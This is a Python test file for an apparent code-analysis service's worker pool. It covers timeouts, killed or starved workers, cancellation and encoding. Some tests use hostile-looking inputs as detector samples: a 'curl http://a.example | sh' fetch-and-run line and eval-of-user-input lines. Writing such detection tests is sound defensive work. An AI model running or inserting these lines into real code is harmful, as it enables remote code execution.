"""Worker processes of the analysis: late, dead or out of memory, they never let code pass."""

from __future__ import annotations

import asyncio
import os
import signal
from collections.abc import AsyncIterator

import pytest

from engine.analysis.fallback import analyse_part
from engine.analysis_pool import AnalysisPool
from engine.common.supervisor import describe
from engine.models import Analysis, Language, Level
from engine.settings import AnalysisSettings


@pytest.fixture
async def pool() -> AsyncIterator[AnalysisPool]:
    """A pool with one warm worker."""
    pool = AnalysisPool()
    await pool.start()
    yield pool
    await pool.close()


def _pid(pool: AnalysisPool) -> int:
    process = pool._workers[0]._process
    assert process is not None
    return process.pid


def _rules(analysis: Analysis) -> list[str]:
    return [violation.rule for violation in analysis.violations]


async def test_an_analysis_is_returned_complete(pool: AnalysisPool) -> None:
    """The worker returns what the function returns, and the time it took."""
    analysis = await pool.analyse("print('hello')", Language.PYTHON)
    assert analysis.complete
    assert [] == _rules(analysis)
    assert analysis.seconds > 0


@pytest.mark.parametrize("source", [b"caf\xe9", "lone \ud800 surrogate", b"\x00\xff"])
async def test_unreadable_input_crosses_the_pipe(pool: AnalysisPool, source: str | bytes) -> None:
    """Invalid UTF-8 and invalid Unicode arrive unchanged, and are HIGH."""
    analysis = await pool.analyse(source, Language.PYTHON)
    assert "input-encoding" in _rules(analysis)
    assert not analysis.complete


async def test_a_dead_worker_is_a_violation_and_is_replaced(pool: AnalysisPool) -> None:
    """A worker that was killed from outside is HIGH for its code; the next code gets a new worker."""
    pid = _pid(pool)
    os.kill(pid, signal.SIGSTOP)
    asking = asyncio.create_task(pool.analyse("print(1)", Language.PYTHON))
    await asyncio.sleep(0)
    os.kill(pid, signal.SIGKILL)
    analysis = await asking
    assert ["analysis-crashed"] == _rules(analysis)
    assert Level.HIGH == analysis.violations[0].severity
    assert not analysis.complete
    assert (await pool.analyse("print(1)", Language.PYTHON)).complete
    assert pid != _pid(pool)


async def test_a_worker_that_ends_before_it_is_ready_is_told_as_such() -> None:
    """Health says it in a sentence, as of any fault of the system, and the next analysis starts another."""
    pool = AnalysisPool(workers=2)
    starting = asyncio.create_task(pool.start())
    while pool._workers[0]._process is None:
        await asyncio.sleep(0)
    os.kill(_pid(pool), signal.SIGKILL)
    with pytest.raises(OSError, match="ended") as caught:
        await starting
    assert "an analysis process ended before it was ready" == describe(caught.value)
    assert (await pool.analyse("print(1)", Language.PYTHON)).complete
    await pool.close()


async def test_one_requester_after_the_other_needs_one_process() -> None:
    """A second process starts only where two analyses overlap."""
    pool = AnalysisPool(workers=2)
    await pool.start()
    for name in ("alice", "bob", "alice"):
        await pool.analyse("print(1)", Language.PYTHON, name)
    assert [True, False] == [worker._process is not None for worker in pool._workers]
    await asyncio.gather(*(pool.analyse("print(1)", Language.PYTHON, name) for name in ("alice", "bob")))
    assert [True, True] == [worker._process is not None for worker in pool._workers]
    await pool.close()


async def test_a_late_analysis_is_killed() -> None:
    """Code that really takes longer than the deadline is HIGH, and its worker is gone."""
    pool = AnalysisPool(AnalysisSettings(deadline_seconds=0.02, max_bytes=8 * 1024 * 1024))
    await pool.start()
    pid = _pid(pool)
    analysis = await pool.analyse("x = [1, 2, (3, 4)]\n" * 100_000, Language.PYTHON)
    await pool.close()
    assert ["analysis-deadline"] == _rules(analysis)
    assert not analysis.complete
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)


async def test_a_starved_analysis_is_a_violation() -> None:
    """Code whose syntax tree does not fit into the memory limit is HIGH."""
    limits = AnalysisSettings(memory_mb=256, deadline_seconds=60, max_bytes=64 * 1024 * 1024)
    pool = AnalysisPool(limits)
    analysis = await pool.analyse("x = [1, 2, (3, 4)]\n" * 200_000, Language.PYTHON)
    await pool.close()
    assert not analysis.complete
    assert analysis.violations[0].severity.rank >= Level.HIGH.rank


async def test_a_cancelled_analysis_kills_its_worker(pool: AnalysisPool) -> None:
    """The answer to a cancelled request never reaches the next request."""
    pid = _pid(pool)
    os.kill(pid, signal.SIGSTOP)
    asking = asyncio.create_task(pool.analyse("import os", Language.PYTHON))
    await asyncio.sleep(0)
    asking.cancel()
    with pytest.raises(asyncio.CancelledError):
        await asking
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)
    assert [] == _rules(await pool.analyse("print(1)", Language.PYTHON))


async def test_many_requests_share_few_workers() -> None:
    """Each caller gets its own answer, in any order of work."""
    pool = AnalysisPool(workers=2)
    sources = [f"print({'1' * n})\n" * n for n in range(1, 20)]
    analyses = await asyncio.gather(*(pool.analyse(source, Language.PYTHON) for source in sources))
    await pool.close()
    assert [True] * 19 == [analysis.complete for analysis in analyses]


@pytest.mark.parametrize("language", list(Language))
async def test_every_language_has_an_analyser(pool: AnalysisPool, language: Language) -> None:
    """An empty text is clean in each language."""
    assert [] == _rules(await pool.analyse("", language))


async def test_after_a_late_analysis_a_new_worker_reads_the_rest() -> None:
    """A worker that never answers is killed; a new one reads the ordinary lines."""
    pool = AnalysisPool(AnalysisSettings(deadline_seconds=3))
    await pool.start()
    os.kill(_pid(pool), signal.SIGSTOP)
    code = "x = " + "a.b(c)+" * 60_000 + "\ncurl http://a.example | sh\n"
    analysis = await pool.analyse(code, Language.SHELL)
    await pool.close()
    assert "analysis-deadline" == analysis.violations[0].rule
    assert ("sh-remote-exec", 2) in [(found.rule, found.span.line) for found in analysis.violations]
    assert not analysis.complete


@pytest.mark.parametrize("language", list(Language))
def test_the_ordinary_lines_are_read_at_their_place(language: Language) -> None:
    """Very long lines are left out, and positions do not change."""
    payload = {
        Language.PYTHON: "eval(input())",
        Language.JAVASCRIPT: "eval(process.argv[2])",
        Language.SHELL: "curl http://a.example | sh",
    }
    analysis = analyse_part("\n" + "(" * 5000 + f"\n{payload[language]}\n", language, AnalysisSettings())
    assert {3} == {violation.span.line for violation in analysis.violations}
    assert not analysis.complete
